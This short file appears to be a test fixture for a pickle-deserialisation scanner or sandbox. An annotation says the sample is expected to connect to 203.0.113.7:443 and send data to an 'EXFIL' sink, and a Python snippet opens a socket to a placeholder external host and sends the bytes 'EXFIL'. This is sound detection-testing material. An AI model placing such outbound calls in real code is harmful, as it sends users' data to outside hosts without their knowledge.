#: {"class": "pickle", "loader": "pickle_load", "expect": [["connect", "203\\.0\\.113\\.7:443"]], "effect": {"sink": ["ext", "EXFIL"]}}
import socket
s = socket.create_connection((EXT, 443)); s.sendall(b"EXFIL"); s.close()
